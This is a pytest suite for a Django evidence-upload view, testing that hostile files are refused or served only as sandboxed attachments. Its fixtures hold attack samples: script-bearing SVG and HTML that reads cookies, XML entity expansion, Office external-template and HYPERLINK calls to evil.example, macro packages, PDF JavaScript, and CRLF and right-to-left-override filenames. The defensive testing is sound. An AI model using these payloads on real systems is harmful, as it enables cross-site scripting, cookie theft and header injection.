"""Files that somebody made to do harm, offered as evidence: refused, or handed out as what no browser opens."""

from __future__ import annotations

import io
import re
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from deliverables.models import Evidence
from kpa_tracker.base.toolkit.uploads import KINDS
from tests.factories.deliverables import DeliverableFactory
from tests.factories.pictures import chunk, picture, png

SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
PAGE = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
ENTITIES = b"<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><x>&b;</x>"
ELSEWHERE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
SUM = b"<worksheet><sheetData><row><c><f>HYPERLINK('http://evil.example')</f></c></row></sheetData></worksheet>"


def office(main: str, **parts: bytes) -> bytes:
    """Return an Office file of some parts; `__` stands for a slash in their names, `_dot_` for a point."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in {"[Content_Types].xml": b"<Types/>", main: b"<x/>", **named(parts)}.items():
            file.writestr(name, content)
    return made.getvalue()


def named(parts: dict[str, bytes]) -> dict[str, bytes]:
    return {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}


WORD, SHEET, SLIDES = "word/document.xml", "xl/workbook.xml", "ppt/presentation.xml"
HUGE = png(60_000, 60_000)
REFUSED = {
    "script.svg": SCRIPT,
    "script.svgz": zlib.compress(SCRIPT),
    "script.png": SCRIPT,
    "script.jpg": SCRIPT,
    "page.html": PAGE,
    "page.xhtml": PAGE,
    "page.pdf": PAGE,
    "page.docx": PAGE,
    "program.exe": b"MZ\x90\x00",
    "program.txt": b"MZ\x90\x00",
    "link.url": b"[InternetShortcut]\nURL=http://evil.example",
    "macros.docm": office(WORD),
    "macros.docx": office(WORD, word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0"),
    "macros.xlsx": office(SHEET, xl__VBAPROJECT_dot_BIN=b"\xd0\xcf\x11\xe0"),
    "macros.pptx": office(SLIDES, ppt__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0"),
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "old.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "sheet.docx": office(SHEET),
    "torn.docx": office(WORD)[:60],
    "empty.pdf": b"",
}
"""What is not taken in, whatever it is called."""
KEPT = {
    "bomb.docx": office(WORD, word__media=b"\x00" * 20_000_000),
    "entities.docx": office(WORD, word__settings_dot_xml=ENTITIES),
    "template.docx": office(WORD, word___rels__settings_dot_xml_dot_rels=ELSEWHERE),
    "formula.xlsx": office(SHEET, xl__worksheets__sheet1_dot_xml=SUM),
    "slides.pptx": office(SLIDES, ppt___rels__x_dot_xml_dot_rels=ELSEWHERE),
    "huge.png": HUGE,
    "torn.png": picture()[:60],
    "page.png": picture()[:33] + chunk(b"tEXt", b"Comment\x00" + PAGE),
    "page.jpg": b"\xff\xd8\xff\xe0" + PAGE,
    "page.txt": PAGE,
    "script.txt": SCRIPT,
    "formula.csv": b'a,b\n"=HYPERLINK(""http://evil.example"")",2\n',
    "script.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "archive.pdf": b"%PDF-1.7\n" + office(WORD, word__vbaProject_dot_bin=b"x"),
}
"""What is of a kind that is taken in: never unpacked, never decoded, never shown."""


@pytest.fixture
def deliverable(authority):
    return DeliverableFactory(plan__authority=authority)


@pytest.fixture
def send(deliverable, administrator, as_person):
    client = as_person(administrator)

    def sent(name, content):
        return client.post(
            reverse("evidence-add", args=[deliverable.pk]), {"evidence": SimpleUploadedFile(name, content)}
        )

    return sent


def test_what_could_run_is_refused_in_words(send):
    answers = {name: send(name, content) for name, content in REFUSED.items()}
    assert {name: answer.status_code for name, answer in answers.items()} == dict.fromkeys(REFUSED, 422)
    assert all(answer.context["form"].errors["evidence"] for answer in answers.values())
    assert not Evidence.objects.exists()


def test_what_is_kept_is_handed_out_and_shown_to_nobody(send, client):
    assert {name: send(name, content).status_code for name, content in KEPT.items()} == dict.fromkeys(KEPT, 302)
    for kept in Evidence.objects.all():
        answer = client.get(kept.get_absolute_url())
        content, said = b"".join(answer.streaming_content), answer.headers
        assert content == KEPT[kept.filename]
        assert said["Content-Type"] == KINDS[kept.filename.rpartition(".")[2]].content_type
        assert said["Content-Disposition"] == f'attachment; filename="{kept.filename}"'
        assert (said["X-Content-Type-Options"], said["X-Frame-Options"]) == ("nosniff", "DENY")
        assert {"default-src 'none'", "sandbox allow-downloads"} <= set(said["Content-Security-Policy"].split("; "))


@pytest.mark.parametrize("name", ["a; x=1.pdf", "a%0d%0aX-Injected: yes.pdf", "\u202efdp.exe.pdf", "größe 👮.pdf"])
def test_no_name_of_a_file_says_anything_else_in_the_answer(name, send, client):
    assert send(name, b"%PDF-1.7").status_code == 302
    answer = client.get(Evidence.objects.get().get_absolute_url())
    answer.close()
    said = answer.headers["Content-Disposition"]
    assert re.fullmatch(r"attachment; filename(=\"[^\"\r\n\u202e]*\"|\*=utf-8''[\w.%-]*)", said, re.ASCII)
    assert "X-Injected" not in answer.headers


def test_a_page_that_is_not_a_file_is_not_shut_in(client, administrator, as_person):
    page = as_person(administrator).get(reverse("my-work"))
    assert "sandbox" not in page.headers["Content-Security-Policy"]
